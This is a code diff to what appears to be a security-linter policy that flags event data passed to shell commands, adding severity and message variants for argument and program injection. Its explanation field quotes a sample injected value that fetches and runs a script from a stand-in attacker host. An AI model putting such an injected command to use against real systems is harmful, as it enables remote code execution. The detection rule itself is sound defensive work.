@@ -8,7 +8,8 @@ export default definePolicy({
   several: ['calls', 'pass event data to a shell'],
   severity: 'critical',
   why: 'A value such as `; curl attacker.example | sh` becomes a command that runs with the permissions of the function.',
-  remedy: 'Run the program without a shell: `execFile` or `subprocess.run` with a list of arguments.',
+  remedy:
+    'Run the program without a shell: `execFile` or `subprocess.run` with a list of arguments, and `--` before those of others.',
   acceptable: 'The text comes only from events that the same team writes.',
   references: {
     owasp: ['OW1'],
@@ -21,7 +22,12 @@ export default definePolicy({
   inspect: (code) =>
     flowProblems(code, {
       dangers: ['command'],
-      severity: () => 'critical',
-      message: (_, name) => `${name} passes event data to a shell command`,
+      severity: ({ detail }) => (detail === 'argument' ? 'medium' : 'critical'),
+      message: ({ detail }, name) => `${name} ${words[detail] ?? 'passes event data to a shell command'}`,
     }),
 });
+
+const words: Readonly<Record<string, string>> = {
+  argument: 'passes event data to a program as an argument that can be an option',
+  program: 'lets event data choose the program that it starts',
+};
